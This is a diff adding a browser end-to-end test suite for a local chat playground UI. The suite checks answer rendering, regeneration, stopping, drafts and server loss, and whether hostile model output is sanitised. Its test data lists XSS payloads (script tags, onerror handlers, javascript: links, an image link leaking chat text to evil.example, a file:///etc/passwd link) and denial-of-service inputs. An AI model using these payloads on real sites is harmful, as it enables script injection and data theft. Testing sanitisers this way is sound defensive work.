@@ -1,0 +1,224 @@
+"""The Playground in a browser, on the real server and the real model."""
+
+import re
+import shutil
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from tests.e2e.server import Server
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+LIMIT_MS = 30_000
+LONG = "Write a long story about a lighthouse."
+
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="this machine has no Chromium")
+
+# Shows a text as an answer, in pieces or at once; returns what must not be there, and the words that are.
+SHOW = """async ([text, pieces]) => {
+  const { AnswerText } = await import("/ui/text/sheet.js");
+  const view = new AnswerText();
+  document.body.append(view.element);
+  const step = Math.max(1, Math.ceil(text.length / pieces));
+  for (let at = step; at < text.length + step; at += step) view.show(text.slice(0, at));
+  view.end();
+  await new Promise((resolve) => setTimeout(resolve, 1200));
+  const wrong = [];
+  for (const element of view.element.querySelectorAll("*")) {
+    if (/^(script|img|iframe|object|embed|style|link|meta|base|form|input|svg|template)$/i.test(element.tagName)) {
+      if (!element.closest(".katex")) wrong.push(element.tagName);
+    }
+    for (const { name, value } of element.attributes) {
+      const isOurs = element.closest(".katex") && (name === "style" || name === "xmlns");
+      if (!isOurs && /^(on.*|src|style|id|name|srcdoc)$/i.test(name)) wrong.push(name);
+      if (name === "href" && !/^(https?:|mailto:|#)/i.test(value)) wrong.push(value);
+    }
+  }
+  const words = view.element.textContent;
+  view.element.remove();
+  return { wrong, words, hasRun: Boolean(window.hasRun) };
+}"""
+
+HOSTILE = {
+    "script": "<script>window.hasRun = 1</script>",
+    "image": '<img src=x onerror="window.hasRun = 1">',
+    "svg": "<svg/onload=window.hasRun=1>",
+    "frame": '<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>',
+    "style": "<style>*{display:none}</style>",
+    "comment": "<!-- <img src=x onerror=window.hasRun=1>",
+    "link": "[a](javascript:window.hasRun=1) [b](JaVaScRiPt:window.hasRun=1) <javascript:window.hasRun=1>",
+    "entity": "[a](&#106;avascript&colon;window.hasRun=1) [b](java\tscript:window.hasRun=1)",
+    "data link": "[a](data:text/html,<script>window.hasRun=1</script>) [b](vbscript:x) [c](file:///etc/passwd)",
+    "reference": "[a]\n\n[a]: javascript:window.hasRun=1",
+    "title": '[a](https://example.org "x\\" onmouseover=window.hasRun=1")',
+    "remote picture": "![secret](https://evil.example/?q=chat) ![x](data:image/svg+xml,<svg onload=window.hasRun=1>)",
+    "fence": '```"><img src=x onerror=window.hasRun=1>\n<script>window.hasRun=1</script>\n```',
+    "open fence": "```html\n<script>window.hasRun = 1</script>",
+    "formula link": "$\\href{javascript:window.hasRun=1}{x}$ and $$\\htmlData{a=b}{x}$$",
+    "deep formula": "$$" + "\\frac{" * 200 + "x" + "}{y}" * 200 + "$$",
+    "macro bomb": "$$\\def\\a{\\a\\a}\\a$$",
+    "deep quotes": ">" * 5000 + " x",
+    "brackets": "[" * 20_000,
+    "stars": "*_" * 5000,
+    "prototype": "[__proto__]\n\n[__proto__]: https://example.org\n[constructor]: https://example.org",
+    "controls": "a\0b\x07c\x1b[31m",
+}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        running = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield running
+        running.close()
+
+
+@pytest.fixture
+def page(browser: Browser, server: Server) -> Iterator[Page]:
+    """A fresh browser at the page; a complaint of the page, or a request to another host, fails the test."""
+    server.wait_ready()
+    context = browser.new_context()
+    opened = context.new_page()
+    opened.set_default_timeout(LIMIT_MS)
+    complaints: list[str] = []
+    opened.on("console", lambda message: complaints.append(message.text))
+    opened.on("pageerror", lambda error: complaints.append(str(error)))
+    host = f"http://127.0.0.1:{server.port}/"
+    opened.on("request", lambda request: complaints.append(request.url) if not request.url.startswith(host) else None)
+    opened.goto(f"{host}ui/")
+    yield opened
+    context.close()
+    assert not complaints
+
+
+def ask(page: Page, text: str) -> None:
+    page.fill("#prompt", text)
+    page.press("#prompt", "Enter")
+
+
+def answered(page: Page, count: int = 1) -> list[str]:
+    """Waits until so many answers are whole; returns their texts."""
+    expect(page.locator(".turn.answer:not(.running) footer")).to_have_count(count, timeout=60_000)
+    return page.locator(".turn.answer .prose").all_inner_texts()
+
+
+def cap(page: Page, tokens: int) -> None:
+    page.fill("#set-max_completion_tokens", str(tokens))
+    page.press("#set-max_completion_tokens", "Tab")
+
+
+def test_two_clicks_lead_to_an_answer_that_is_kept(page: Page) -> None:
+    cap(page, 24)
+    page.click("#suggestions button >> nth=0")
+    (text,) = answered(page)
+    assert text.strip()
+    readout = page.locator(".turn.answer .readout").inner_text()
+    assert re.search(r"to first token.*tok/s.*24 tokens.*seed \d+", readout.replace("\n", ""))
+    page.reload()
+    assert answered(page) == [text]
+    assert page.locator(".list li.open .name").inner_text() == "Explain photosynthesis in two sentences."
+
+
+def test_same_again_says_the_same_and_regenerate_something_else(page: Page) -> None:
+    cap(page, 24)
+    ask(page, "Tell me a story.")
+    (first,) = answered(page)
+    page.click(".turn.answer .same")
+    expect(page.locator(".branches")).to_contain_text("2 / 2")
+    assert answered(page) == [first]
+    page.click(".turn.answer .again")
+    expect(page.locator(".branches")).to_contain_text("3 / 3")
+    assert answered(page) != [first]
+    page.click("[aria-label='Earlier version']")
+    expect(page.locator(".branches")).to_contain_text("2 / 3")
+    assert answered(page) == [first]
+
+
+def test_stop_keeps_what_came_and_frees_the_server(page: Page, server: Server) -> None:
+    ask(page, LONG)
+    expect(page.locator(".turn.answer .prose")).to_contain_text(re.compile(r"\w+ \w+"))
+    page.keyboard.press("Escape")
+    expect(page.locator(".ending")).to_contain_text("Stopped by you")
+    (text,) = answered(page)
+    page.reload()
+    assert answered(page) == [text]
+    assert server.log_text().count('"finish_reason":"cancelled"') >= 1
+
+
+def test_an_edited_question_is_a_sibling(page: Page) -> None:
+    cap(page, 8)
+    ask(page, "First question")
+    answered(page)
+    page.hover(".turn.user")
+    page.click(".turn.user .edit")
+    page.fill(".turn.user textarea", "Second question")
+    page.press(".turn.user textarea", "Control+Enter")
+    expect(page.locator(".turn.user .said")).to_have_text("Second question")
+    answered(page)
+    page.click(".turn.user [aria-label='Earlier version']")
+    expect(page.locator(".turn.user .said")).to_have_text("First question")
+
+
+def test_chats_answer_at_the_same_time_each_into_its_own(page: Page) -> None:
+    cap(page, 120)
+    ask(page, "Count to ten")
+    expect(page.locator(".turn.answer.running")).to_be_visible()
+    page.click("#new-chat")
+    expect(page.locator("#suggestions")).to_be_visible()
+    cap(page, 8)
+    ask(page, "Say hello")
+    (second,) = answered(page)
+    page.click(".list li:not(.open) a")
+    expect(page.locator(".turn.user .said")).to_have_text("Count to ten")
+    (first,) = answered(page)
+    assert first != second
+    page.reload()
+    assert answered(page) == [first]
+
+
+def test_what_is_typed_survives_a_reload(page: Page) -> None:
+    cap(page, 4)
+    ask(page, "Hello")
+    answered(page)
+    page.type("#prompt", "not sent yet")
+    page.wait_for_function(
+        """async () => { const store = await import("/ui/store/database.js");
+        const id = location.hash.split("/")[2]; return (await store.get("drafts", id))?.text === "not sent yet"; }"""
+    )
+    page.reload()
+    expect(page.locator("#prompt")).to_have_value("not sent yet")
+
+
+def test_an_answer_cut_by_the_end_of_the_page_keeps_its_text(page: Page) -> None:
+    ask(page, LONG)
+    page.wait_for_function("document.querySelector('.turn.answer .prose')?.textContent.length > 80")
+    shown = page.locator(".turn.answer .prose").inner_text()
+    page.reload()
+    expect(page.locator(".ending")).to_contain_text("Cut off")
+    (kept,) = answered(page)
+    assert kept.startswith(shown[:40])
+
+
+@pytest.mark.parametrize("pieces", [1, 40])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_text_runs_nothing_and_asks_nobody(page: Page, name: str, pieces: int) -> None:
+    shown = page.evaluate(SHOW, [HOSTILE[name], pieces])
+    assert shown["wrong"] == []
+    assert not shown["hasRun"]
+    assert shown["words"].strip()
+
+
+def test_a_lost_server_is_said_and_found_again(browser: Browser, start_server: Callable[..., Any]) -> None:
+    with start_server() as own:
+        own.wait_ready()
+        page = browser.new_context().new_page()
+        page.goto(f"http://127.0.0.1:{own.port}/ui/")
+        expect(page.locator("#model")).to_have_attribute("data-state", "serving")
+        page.evaluate("window.hasStayed = true")
+    ask(page, "Anybody there?")
+    expect(page.locator(".banner")).to_contain_text("No server at")
+    expect(page.locator(".turn.user .said")).to_have_text("Anybody there?")
+    assert page.evaluate("window.hasStayed")
+    page.context.close()
